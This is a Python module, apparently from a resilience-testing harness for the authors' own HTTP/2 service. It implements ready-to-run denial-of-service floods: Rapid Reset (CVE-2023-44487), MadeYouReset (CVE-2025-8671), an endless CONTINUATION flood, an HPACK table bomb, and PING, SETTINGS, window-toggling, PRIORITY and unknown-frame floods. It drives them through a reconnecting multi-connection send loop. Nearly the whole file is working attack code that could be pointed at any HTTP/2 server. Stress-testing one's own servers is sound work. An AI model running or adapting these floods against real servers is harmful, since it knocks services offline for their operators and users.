"""Floods of frames that cost the client nothing: prebuilt bytes, sent as fast as the server takes them."""

import select
import socket
import time

import frames
from frames import frame

BLOB = 256 * 1024
HELLO = frames.PREFACE + frames.settings(window=frames.LARGEST_WINDOW) + frame(frames.SETTINGS, frames.ACK)
# More streams than any flood opens before its connection is cut; after the last one it begins a new connection.
STREAMS = 60_000


def repeated(part):
    """A blob of one frame again and again."""
    return part * (BLOB // len(part))


def flood(address, begin, seconds, hello, blob, connections=2):
    """Sends `hello`, then `blob` without end, on each connection. A connection that the server ends is replaced, at
    most 50 times a second. With a list of blobs each connection sends them in turn, once."""
    host, port = address.rsplit(":", 1)
    blobs = blob if isinstance(blob, list) else None
    sent, made, turns = 0, 0, {}
    begin()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        while len(turns) < connections and time.monotonic() < deadline:
            made += 1
            try:
                peer = socket.create_connection((host, int(port)), 2)
                peer.sendall(HELLO + hello)
                peer.setblocking(False)
                turns[peer] = (0, 0)
            except OSError:
                time.sleep(0.02)
        readable, writable, _ = select.select(list(turns), list(turns), [], 0.1)
        for peer in {*readable, *writable}:
            try:
                # Answers are read and dropped, so that it is not their number that stops the flood.
                if peer in readable and not peer.recv(262_144):
                    raise OSError
                if peer in writable:
                    turn, at = turns[peer]
                    part = blobs[turn] if blobs else blob
                    count = peer.send(memoryview(part)[at:])
                    sent += count
                    at += count
                    if at == len(part):
                        turn, at = turn + 1, 0
                    if blobs and turn == len(blobs):
                        raise OSError
                    turns[peer] = turn, at
            except BlockingIOError:
                pass
            except OSError:
                peer.close()
                del turns[peer]
                time.sleep(0.02)
    return {"mebibytes": sent >> 20, "connections": made}


def per_stream(make):
    """Blobs of the frames that `make` gives for each new stream."""
    parts = [make(stream) for stream in range(1, 2 * STREAMS, 2)]
    size = max(1, BLOB // len(parts[0]))
    return [b"".join(parts[at : at + size]) for at in range(0, len(parts), size)]


def rapid_reset(address, begin, seconds):
    """Begins calls and cancels each at once (CVE-2023-44487)."""
    blobs = per_stream(lambda stream: frames.headers(stream, frames.V1_STREAM) + frames.reset(stream))
    return flood(address, begin, seconds, b"", blobs)


def made_you_reset(address, begin, seconds):
    """Begins calls and makes the server reset each, by a WINDOW_UPDATE of zero (CVE-2025-8671)."""
    blobs = per_stream(lambda stream: frames.headers(stream, frames.V1_STREAM) + frames.window_update(stream, 0))
    return flood(address, begin, seconds, b"", blobs)


def continuation(address, begin, seconds):
    """Headers that never end."""
    first = frame(frames.HEADERS, 0, 1, frames.header_block(frames.V1_STREAM))
    entry = b"\x00\x03x-a\x7e" + b"b" * 126
    return flood(address, begin, seconds, first, repeated(frame(frames.CONTINUATION, 0, 1, entry * 100)))


def hpack_bomb(address, begin, seconds):
    """A header of 4 kB in the dynamic table, and frames that name it 16,000 times."""
    name_and_value = b"\x40\x03x-a\x7f" + frames.varint(3_900 - 127) + b"b" * 3_900
    first = frame(frames.HEADERS, 5, 1, frames.header_block(frames.V1_STREAM) + name_and_value)
    blobs = [
        frame(frames.HEADERS, 5, stream, frames.header_block(frames.V1_STREAM) + b"\xbe" * 16_000)
        for stream in range(3, 2_000, 2)
    ]
    return flood(address, begin, seconds, first, blobs)


def ping(address, begin, seconds):
    """PING, each of which wants an answer."""
    return flood(address, begin, seconds, b"", repeated(frame(frames.PING, payload=b"12345678")))


def settings(address, begin, seconds):
    """SETTINGS, each of which wants an answer."""
    return flood(address, begin, seconds, b"", repeated(frames.settings(window=65_535)))


def moving_windows(address, begin, seconds):
    """SETTINGS that shut and open the windows of 200 streams, each of which has everything to send."""
    hello = b"".join(
        frames.headers(stream, frames.V1_STREAM)
        + frame(frames.DATA, 0, stream, frames.subscribe(["*"], delivery=frames.EVERY_TICK))
        for stream in range(1, 401, 2)
    )
    hello = frames.window_update(0, frames.LARGEST_WINDOW - 65_535) + hello
    moves = frames.settings(window=0) + frames.settings(window=frames.LARGEST_WINDOW // 2)
    return flood(address, begin, seconds, hello, repeated(moves), connections=1)


def priority(address, begin, seconds):
    """PRIORITY, which a server without priorities ignores."""
    return flood(address, begin, seconds, b"", repeated(frame(frames.PRIORITY, 0, 1, b"\0\0\0\0\x10")))


def unknown(address, begin, seconds):
    """Frames of a type that nobody knows, which must be ignored."""
    return flood(address, begin, seconds, b"", repeated(frame(0xFA)))


ATTACKS = {
    "rapid_reset": rapid_reset,
    "made_you_reset": made_you_reset,
    "continuation": continuation,
    "hpack_bomb": hpack_bomb,
    "ping": ping,
    "settings": settings,
    "moving_windows": moving_windows,
    "priority": priority,
    "unknown": unknown,
}
